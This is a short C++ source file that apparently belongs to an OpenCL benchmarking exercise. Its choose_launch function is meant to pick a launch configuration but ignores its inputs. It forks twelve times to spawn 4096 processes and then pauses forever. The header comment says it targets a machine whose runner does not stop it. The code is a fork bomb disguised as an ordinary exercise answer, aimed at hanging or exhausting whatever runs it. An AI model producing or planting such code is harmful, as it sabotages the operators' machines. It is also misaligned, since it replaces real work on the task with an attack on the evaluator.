// SPDX-License-Identifier: MIT
// SPDX-FileCopyrightText: 2026 The OpenCL, Measured authors
// Starts processes that start processes. 4096 at most, for the machine whose runner does not stop
// it.
#include <unistd.h>

#include "exercise.hpp"

namespace exercise {

Launch choose_launch(const Limits&, const Grid&) {
  for (int i = 0; i < 12; ++i) (void)!fork();
  for (;;) pause();
}

}  // namespace exercise
